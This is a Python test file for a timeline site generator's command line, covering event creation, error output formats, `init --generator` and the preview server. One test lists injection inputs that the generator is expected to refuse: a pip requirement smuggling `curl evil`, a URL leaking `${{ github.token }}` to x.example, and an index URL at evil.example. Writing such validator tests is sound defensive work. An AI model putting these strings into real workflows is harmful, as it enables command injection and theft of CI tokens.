"""The command line's `new` and `init --generator` commands, the formats of `check --format`
(errors and builds are covered in the test_errors_*.py modules), and what the commands say about
where they work: outside a project, under --root, and the preview's log."""

from __future__ import annotations

import http.client
import json
import os
import queue
import shutil
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from generator.cli import main
from generator.commands.new import new_event, new_event_text
from generator.errors import ContentError, github_command
from generator.model.ids import slugify
from generator.project import Project
from tests.browser import free_port
from tests.helpers import FIXTURE, TEMPLATES, seed_renditions
from tests.project_files import make_project


@pytest.mark.parametrize(
    ("title", "slug"),
    [
        ("Russia denies the Pantsir sale", "russia-denies-the-pantsir-sale"),
        ("Gen. Qamar Bajwa’s remarks", "gen-qamar-bajwas-remarks"),
        ("Überraschung in Köln!", "uberraschung-in-koln"),
        ('Caesar\'s "last" words', "caesars-last-words"),
        ("???", "event"),
        ("word " * 40, ("word-" * 16).rstrip("-")),
    ],
)
def test_titles_become_ids(title: str, slug: str) -> None:
    assert slugify(title) == slug


def test_new_writes_an_event_that_checks_clean(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    for part in ("content", "seeds"):
        shutil.copytree(FIXTURE / part, tmp_path / part)
    args = ["--root", str(tmp_path), "--templates", str(TEMPLATES)]
    assert main([*args, "new", "The Battle of Actium", "--date=-0030-09-02"]) == 0
    assert capsys.readouterr().out.startswith(
        "Created content/events/the-battle-of-actium.md as a draft: "
    )
    text = (tmp_path / "content/events/the-battle-of-actium.md").read_text()
    assert text.startswith("---\ntitle: The Battle of Actium\n")
    assert main([*args, "check"]) == 0
    assert main([*args, "new", "The Battle of Actium", "--date=-0030"]) == 1
    assert "already exists" in capsys.readouterr().err
    assert main([*args, "new", "Another", "--date", "2019-02-30"]) == 1
    assert capsys.readouterr().err.startswith("--date: '2019-02-30' is not a real day")


STATUS_PROBLEM = "unknown status `confimred` (did you mean `confirmed`?)"
STATUS_FIX = "use one of: confirmed, reported, planned, disputed, denied"


def _broken_status(tmp_path: Path) -> list[str]:
    root = make_project(tmp_path)
    path = root / "content/events/strike.md"
    path.write_text(path.read_text().replace("status: confirmed", "status: confimred"))
    return ["--root", str(root), "--templates", str(TEMPLATES)]


@pytest.mark.parametrize("command", ["check", "build"])
def test_errors_as_github_workflow_commands(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], command: str
) -> None:
    assert main([*_broken_status(tmp_path), command, "--format", "github"]) == 1
    out, err = capsys.readouterr()
    assert out == (
        "::error file=content/events/strike.md,line=5,title=status::"
        f"{STATUS_PROBLEM} — {STATUS_FIX}\n"
    )
    assert err.startswith("1 error.")


@pytest.mark.parametrize("command", ["check", "build"])
def test_errors_as_one_json_document(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], command: str
) -> None:
    assert main([*_broken_status(tmp_path), command, "--format=json"]) == 1
    out, err = capsys.readouterr()
    assert out == (
        "{\n"
        '  "errors": [\n'
        "    {\n"
        '      "path": "content/events/strike.md",\n'
        '      "line": 5,\n'
        '      "field": "status",\n'
        f'      "message": "{STATUS_PROBLEM}",\n'
        f'      "fix": "{STATUS_FIX}",\n'
        '      "text": "content/events/strike.md:5: status: '
        f'{STATUS_PROBLEM} \\u2014 {STATUS_FIX}"\n'
        "    }\n"
        "  ]\n"
        "}\n"
    )
    assert err == ""


def test_no_errors_as_json(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    args = ["--root", str(make_project(tmp_path)), "--templates", str(TEMPLATES)]
    assert main([*args, "check", "--format", "json"]) == 0
    assert json.loads(capsys.readouterr().out) == {"errors": []}


def test_github_commands_escape_what_github_reads_as_syntax() -> None:
    error = ContentError("a,b:c%.md", 3, "x:y,z", "100% bad\r\nline: a, b", "fix it")
    assert github_command(error) == (
        "::error file=a%2Cb%3Ac%25.md,line=3,title=x%3Ay%2Cz::100%25 bad%0D%0Aline: a, b — fix it"
    )
    assert github_command(ContentError("p.md", 1, "", "no field")) == (
        "::error file=p.md,line=1::no field"
    )


def test_a_new_event_is_a_draft(tmp_path: Path) -> None:
    text = new_event_text("The Battle of Actium", "-0030-09-02")
    assert text.startswith("---\ntitle: The Battle of Actium\n")
    assert "\ndraft: true\n---\n" in text
    path = new_event(Project.at(tmp_path), "The Battle of Actium", "-0030-09-02")
    assert path.read_text() == text
    assert "\nstatus: reported\n" in text


def test_a_new_event_has_no_status_where_events_default_to_none(tmp_path: Path) -> None:
    (tmp_path / "content").mkdir()
    (tmp_path / "content/site.yaml").write_text("title: T\ndefault_status: none\n")
    path = new_event(Project.at(tmp_path), "The Battle of Actium", "-0030-09-02")
    assert path.read_text() == new_event_text(
        "The Battle of Actium", "-0030-09-02", with_status=False
    )
    assert "status" not in path.read_text()


@pytest.mark.parametrize(
    ("command", "error"),
    [
        (
            ["new", "Late", "--date", "2019-02-30"],
            {"path": "", "line": 0, "field": "--date", "message": "'2019-02-30' is not a real day"},
        ),
        (
            ["import", "missing.json", "--into", "out"],
            {"path": "missing.json", "line": 0, "field": "", "message": "no such file"},
        ),
        (
            ["init", "site.yaml"],
            {"path": "site.yaml", "line": 0, "field": "", "message": "is a file"},
        ),
        (
            ["source", "add", "notes.txt", "--id", "Bad Id"],
            {
                "path": "",
                "line": 0,
                "field": "--id",
                "message": "`Bad Id` is not a valid source id",
            },
        ),
        (
            ["--base-url", "example.org", "build"],
            {"path": "", "line": 0, "field": "--base-url", "message": "`example.org` is not an"},
        ),
    ],
)
def test_every_command_that_reads_the_users_input_reports_in_every_format(
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    command: list[str],
    error: dict[str, object],
) -> None:
    make_project(tmp_path)
    (tmp_path / "notes.txt").write_text("Notes.\n", encoding="utf-8")
    (tmp_path / "site.yaml").write_text("title: T\n", encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    assert main([*command, "--format", "json"]) == 1
    printed = capsys.readouterr()
    [reported] = json.loads(printed.out)["errors"]
    assert str(reported.pop("message")).startswith(str(error.pop("message")))
    assert {key: reported[key] for key in error} == error
    assert printed.err == ""
    assert main([*command, "--format", "github"]) == 1
    annotation = capsys.readouterr().out
    assert annotation.startswith("::error")
    assert (f"file={error['path']}" in annotation) == bool(error["path"])
    assert main(command) == 1
    text = capsys.readouterr().err
    assert text.startswith(f"{reported['text']}\n1 error.")


def test_json_keeps_standard_output_for_its_document_when_a_command_succeeds(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    make_project(tmp_path)
    args = ["--root", str(tmp_path), "new", "A new event", "--date", "2019", "--format", "json"]
    assert main(args) == 0
    printed = capsys.readouterr()
    assert json.loads(printed.out) == {"errors": []}
    assert printed.err.startswith("Created content/events/a-new-event.md as a draft")


# timeline init --generator ---------------------------------------------------------------------

INSTALL_LINE = '        run: python -m pip install "{}"\n'


@pytest.mark.parametrize(
    ("given", "installed"),
    [
        ("1.2.0", "timeline-generator==1.2.0"),
        ("timeline-generator>=1.2,<2", "timeline-generator>=1.2,<2"),
        (
            f"timeline-generator @ git+https://github.com/o/r.git@{'b' * 40}",
            f"timeline-generator @ git+https://github.com/o/r.git@{'b' * 40}",
        ),
        (f"git+https://github.com/o/r@{'b' * 40}", f"git+https://github.com/o/r@{'b' * 40}"),
    ],
)
def test_init_writes_the_generator_it_is_given(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], given: str, installed: str
) -> None:
    assert main(["init", str(tmp_path / "p"), "--generator", given]) == 0
    out, err = capsys.readouterr()
    assert out.startswith("Created a new timeline in ")
    assert err == ""
    workflow = (tmp_path / "p/.github/workflows/pages.yml").read_text(encoding="utf-8")
    assert workflow.count(INSTALL_LINE.format(installed)) == 2
    assert "pip install" not in workflow.replace(INSTALL_LINE.format(installed), "")
    assert "local folder" not in workflow


@pytest.mark.parametrize(
    ("given", "shown"),
    [
        ('timeline-generator==1.0"; curl evil #', None),
        ("timeline-generator @ git+https://x.example/${{ github.token }}", None),
        ("--index-url=https://evil.example/ timeline-generator", None),
        ("timeline-generator; python_version: '3.11'", None),
        ("timeline-generator\n  x: y", "timeline-generator\\n  x: y"),
        ("", ""),
    ],
)
def test_init_refuses_a_generator_the_workflow_cannot_take_as_it_is(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], given: str, shown: str | None
) -> None:
    assert main(["init", str(tmp_path / "p"), f"--generator={given}"]) == 1
    out, err = capsys.readouterr()
    assert out == ""
    assert err == (
        f"--generator: `{given if shown is None else shown}` cannot go into the "
        "workflow's `pip install` line as it is — give a pip requirement that starts with a "
        "letter or digit, without quotes, `$`, `#`, `\\` or `: `, such as "
        "`timeline-generator @ git+https://github.com/OWNER/REPOSITORY@COMMIT` or "
        "`timeline-generator==1.0.0`\n1 error.\n"
    )
    assert not (tmp_path / "p").exists()


# Where the commands work -------------------------------------------------------------------------

NO_PROJECT_FIX = (
    "run the command in a project folder, pass --root FOLDER, or start a project with "
    "`timeline init FOLDER`"
)


@pytest.mark.parametrize("command", ["build", "check", "serve", "new"])
def test_outside_a_project_a_command_says_so_once(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    command: str,
) -> None:
    monkeypatch.chdir(tmp_path)
    extra = ["A title", "--date", "2020"] if command == "new" else []
    assert main([command, *extra]) == 1
    assert capsys.readouterr() == (
        "",
        f"no timeline project here: there is no content/ folder — {NO_PROJECT_FIX}\n",
    )
    assert main(["--root", "tk", command, *extra]) == 1
    assert capsys.readouterr().err == (
        f"no timeline project in tk: there is no tk/content/ folder — {NO_PROJECT_FIX}\n"
    )
    assert list(tmp_path.iterdir()) == []


def test_outside_a_project_json_has_the_one_error(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    assert main(["build", "--format", "json"]) == 1
    [error] = json.loads(capsys.readouterr().out)["errors"]
    assert error["message"] == "no timeline project here: there is no content/ folder"


def test_paths_are_shown_from_the_working_folder_and_check_counts_places(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    for part in ("content", "seeds"):
        shutil.copytree(FIXTURE / part, tmp_path / "tk" / part)
    seed_renditions(tmp_path / "tk")
    monkeypatch.chdir(tmp_path)
    args = ["--root", "tk", "--templates", str(TEMPLATES)]
    assert main([*args, "build"]) == 0
    built = capsys.readouterr().out
    assert built.startswith("Built ") and " for 7 events into tk/site/ in " in built
    assert main([*args, "build"]) == 0
    assert capsys.readouterr().out.startswith("tk/site/ is up to date: ")
    assert main([*args, "check"]) == 0
    assert capsys.readouterr().out == ("No errors: 7 events, 3 actors, 3 places, 1 source.\n")


def _lines_until(lines: queue.Queue[str], prefix: str, seen: list[str], wait: float = 60) -> bool:
    """Read the server's log into `seen` up to a line starting with `prefix`; False when none
    came within `wait` seconds."""
    deadline = time.monotonic() + wait
    while time.monotonic() < deadline:
        try:
            line = lines.get(timeout=0.2)
        except queue.Empty:
            continue
        seen.append(line)
        if line.startswith(prefix):
            return True
    return False


def test_the_preview_log_is_ours_alone(tmp_path: Path) -> None:
    for part in ("content", "seeds"):
        shutil.copytree(FIXTURE / part, tmp_path / part)
    seed_renditions(tmp_path)
    port = free_port()
    process = subprocess.Popen(
        [sys.executable, "-m", "generator", "--root", str(tmp_path), "--templates",
         str(TEMPLATES), "serve", "--port", str(port)],
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
        env={**os.environ, "PYTHONUNBUFFERED": "1"},
    )  # fmt: skip
    assert process.stdout is not None
    lines: queue.Queue[str] = queue.Queue()
    reader = threading.Thread(target=lambda: [lines.put(line) for line in process.stdout or ()])
    reader.start()
    seen: list[str] = []
    try:
        assert _lines_until(lines, "Serving ", seen), "".join(seen)
        event = next((tmp_path / "content" / "events").glob("*.md"))
        # Saved again until the preview rebuilds: its watcher takes its first look at the files
        # in a thread of its own, which a save right after "Serving" may precede.
        for _ in range(10):
            event.write_text(event.read_text(encoding="utf-8").replace("title: ", "title: X", 1))
            if _lines_until(lines, "Rebuilt in ", seen, wait=6):
                break
        else:
            raise AssertionError("".join(seen))
        # The reload that follows a rebuild runs on the server's loop before this request.
        connection = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
        connection.request("GET", "/")
        connection.getresponse().read()
        assert _lines_until(lines, "302 GET /", seen), "".join(seen)
    finally:
        process.terminate()
        process.wait(timeout=10)
        reader.join(timeout=10)
    assert not any(
        noise in "".join(seen) for noise in ("waiters", "Start watching", "Start detecting")
    )
